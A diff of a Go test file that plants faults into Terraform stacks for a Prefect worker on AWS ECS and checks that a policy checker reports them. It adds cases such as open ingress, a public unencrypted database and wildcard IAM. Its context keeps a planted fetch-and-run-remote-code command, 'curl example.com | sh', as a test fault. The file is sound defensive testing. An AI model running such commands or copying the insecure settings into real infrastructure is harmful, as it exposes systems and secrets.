@@ -13,7 +13,7 @@ import (
 type fault struct {
 	name  string
 	plant func(t *testing.T, stack map[string]any)
-	// in are the environments that it is planted in. Default: all.
+	// in are the environments that it is planted in. Default: all without a Prefect server.
 	in []string
 	// want are the findings, a line each.
 	want string
@@ -141,6 +141,9 @@ const (
 
 // anything is any content: what is on no list is refused whatever it holds.
 var anything = map[string]any{"x": "y"}
+
+// both are the environments with a Prefect server.
+var both = []string{"server", "serverdb"}
 
 var faults = []fault{
 	// Resources that are on no list.
@@ -273,8 +276,8 @@ aws_ecs_task_definition.worker.container_definitions[0].healthCheck is missing: 
 	{name: "another command", want: `aws_ecs_task_definition.worker.container_definitions[0].command is ["/bin/sh","-c","id"]; allowed is a list that starts a worker: another command runs other code with the API key`, plant: inContainer("command", []any{"/bin/sh", "-c", "id"})},
 	{name: "a command before the worker's", want: `aws_ecs_task_definition.worker.container_definitions[0].command[2] is "curl example.com | sh; exec \"$@\""; allowed is the line that names the worker after its task: another command runs other code with the API key`, plant: inContainer("command.2", "curl example.com | sh; exec \"$@\"")},
 	{name: "an option of the worker", want: `aws_ecs_task_definition.worker.container_definitions[0].command[9] is "--install-policy", which is no option or value that this worker has: another command runs other code with the API key`, plant: inContainer("command.9", "--install-policy")},
-	{name: "another log", want: `aws_ecs_task_definition.worker.container_definitions[0].logConfiguration.logDriver is "none"; allowed is "awslogs": the log would go elsewhere, or a slow log would stop the worker`, plant: inContainer("logConfiguration.logDriver", "none")},
-	{name: "a log that blocks", want: `aws_ecs_task_definition.worker.container_definitions[0].logConfiguration.options.mode is "blocking"; allowed is "non-blocking": the log would go elsewhere, or a slow log would stop the worker`, plant: inContainer("logConfiguration.options.mode", "blocking")},
+	{name: "another log", want: `aws_ecs_task_definition.worker.container_definitions[0].logConfiguration.logDriver is "none"; allowed is "awslogs": the log would go elsewhere, or a slow log would stop the container`, plant: inContainer("logConfiguration.logDriver", "none")},
+	{name: "a log that blocks", want: `aws_ecs_task_definition.worker.container_definitions[0].logConfiguration.options.mode is "blocking"; allowed is "non-blocking": the log would go elsewhere, or a slow log would stop the container`, plant: inContainer("logConfiguration.options.mode", "blocking")},
 	{name: "no health check", want: `aws_ecs_task_definition.worker.container_definitions[0].healthCheck.command is ["NONE"]; allowed is ["CMD","python","-c","import urllib.request as u; u.urlopen('http://127.0.0.1:8080/health', timeout=8)"]: a task that hangs would not be replaced`, plant: inContainer("healthCheck.command", []any{"NONE"})},
 	{name: "a sidecar", want: `aws_ecs_task_definition.worker.container_definitions has a length of 2; allowed is 1: the container would be less isolated, or not start`, plant: more(containers, "", anything)},
 	{name: "no isolation of processes", want: `aws_ecs_task_definition.worker.pid_mode is not on the list of what is allowed: the container would see the processes of others`, plant: set("resource.aws_ecs_task_definition.worker.pid_mode", "host")},
@@ -313,6 +316,30 @@ aws_ecs_task_definition.worker.container_definitions[0].healthCheck is missing: 
 	{name: "another API always", want: `locals.prefect_api_url is "https://example.com/api"; allowed is "${var.prefect_api_url != \"\" ? trimsuffix(var.prefect_api_url, \"/\") : lower(\"https://api.prefect.cloud/api/accounts/${var.prefect_account_id}/workspaces/${var.prefect_workspace_id}\")}": where the API key is sent follows from it`, plant: set("locals.prefect_api_url", "https://example.com/api")},
 	{name: "the key as an output", want: `output.vpc_id.value is "${var.prefect_api_key}"; allowed is "${aws_vpc.main.id}": outputs are shown on every terminal and stand in the state`, in: []string{"dev", "full"}, plant: set("output.vpc_id.value", "${var.prefect_api_key}")},
 	{name: "a further output", want: `output.x is not on the list of what is allowed: outputs are shown on every terminal and stand in the state`, plant: set("output.x", map[string]any{"value": "${local.x}"})},
+
+	// A Prefect server in the stack.
+	{name: "a server open to the internet", want: `aws_vpc_security_group_ingress_rule.server.cidr_ipv4 is not on the list of what is allowed: others than the worker, its flows and the server could connect, or the server to what it does not need
+aws_vpc_security_group_ingress_rule.server.referenced_security_group_id is missing: others than the worker, its flows and the server could connect, or the server to what it does not need`, in: both, plant: func(t *testing.T, stack map[string]any) {
+		set("resource.aws_vpc_security_group_ingress_rule.server.cidr_ipv4", "0.0.0.0/0")(t, stack)
+		drop("resource.aws_vpc_security_group_ingress_rule.server.referenced_security_group_id")(t, stack)
+	}},
+	{name: "another way into the server", want: `aws_vpc_security_group_ingress_rule.x is not on the list of what is allowed: an inbound rule lets others connect to the task, and nothing needs to`, in: both, plant: set("resource.aws_vpc_security_group_ingress_rule.x", anything)},
+	{name: "two servers", want: `aws_ecs_service.server.desired_count is 2; allowed is 1: two servers would run at once: schedulers start runs twice, migrations ruin the database`, in: both, plant: set("resource.aws_ecs_service.server.desired_count", 2)},
+	{name: "two servers while one is replaced", want: `aws_ecs_service.server.deployment_maximum_percent is 200; allowed is 100: two servers would run at once: schedulers start runs twice, migrations ruin the database`, in: both, plant: set("resource.aws_ecs_service.server.deployment_maximum_percent", 200)},
+	{name: "a worker with a shell", want: `aws_ecs_service.worker.enable_execute_command is not on the list of what is allowed: ECS Exec gives whoever may call it a shell beside the API key`, in: both, plant: set("resource.aws_ecs_service.worker.enable_execute_command", true)},
+	{name: "a public database", want: `aws_db_instance.server.publicly_accessible is true; allowed is false: the database would have a public address`, in: []string{"server"}, plant: set("resource.aws_db_instance.server.publicly_accessible", true)},
+	{name: "a database in clear text", want: `aws_db_instance.server.storage_encrypted is missing: the database would lie in clear text`, in: []string{"server"}, plant: drop("resource.aws_db_instance.server.storage_encrypted")},
+	{name: "connections in clear text", want: `aws_db_parameter_group.server.parameter[0].value is "0"; allowed is "1": the database would take connections in clear text`, in: []string{"server"}, plant: set("resource.aws_db_parameter_group.server.parameter.0.value", "0")},
+	{name: "a password in the state", want: `aws_db_instance.server.password is not on the list of what is allowed: the database would be less guarded than it was judged`, in: []string{"server"}, plant: set("resource.aws_db_instance.server.password", "x")},
+	{name: "a password that is none", want: `ephemeral.aws_secretsmanager_random_password.database.password_length is 4; allowed is 40: a password could be guessed`, in: []string{"server"}, plant: set("ephemeral.aws_secretsmanager_random_password.database.password_length", 4)},
+	{name: "another ephemeral value", want: `ephemeral.aws_lambda_invocation.x is not on the list of what is allowed: an ephemeral value of elsewhere is judged by no rule here`, in: both, plant: set("ephemeral.aws_lambda_invocation.x", anything)},
+	{name: "a server that may do more", want: `aws_iam_role_policy.server_task.policy.Statement[0] is {"Action":["*"],"Effect":"Allow","Resource":["*"],"Sid":"ECSExec"}, which is not on the list of allowed statements: a star stands also for each action that AWS adds; so the role may do more than its work needs`, in: both, plant: statement("resource.aws_iam_role_policy.server_task.policy", 0, "Action", []any{"*"})},
+	{name: "a server without a password", want: `aws_ecs_task_definition.server.container_definitions[0].secrets is [{"name":"PGPASSWORD","valueFrom":"${aws_secretsmanager_secret.database.arn}"}]; allowed is [{"name":"PGPASSWORD","valueFrom":"${aws_secretsmanager_secret.database.arn}"},{"name":"PREFECT_SERVER_API_AUTH_STRING","valueFrom":"${aws_secretsmanager_secret.prefect_api_key.arn}"}]: the server would get a secret that is not its own, or none and be open to all in the VPC`, in: []string{"server"},
+		plant: inside("resource.aws_ecs_task_definition.server.container_definitions", func(t *testing.T, document any) any {
+			c := document.([]any)[0].(map[string]any)
+			c["secrets"] = c["secrets"].([]any)[:1]
+			return document
+		})},
 	{name: "a link to somewhere else", want: `output.console_logs_url.value is "https://example.com/"; allowed is an address in the console: outputs are shown on every terminal and stand in the state`, plant: set("output.console_logs_url.value", "https://example.com/")},
 }
 
@@ -322,7 +349,7 @@ func TestEveryFaultIsFound(t *testing.T) {
 		t.Run(f.name, func(t *testing.T) {
 			in := f.in
 			if in == nil {
-				in = slices.Sorted(maps.Keys(all))
+				in = slices.DeleteFunc(slices.Sorted(maps.Keys(all)), func(name string) bool { return strings.HasPrefix(name, "server") })
 			}
 			for _, name := range in {
 				// GIVEN a golden stack with one fault
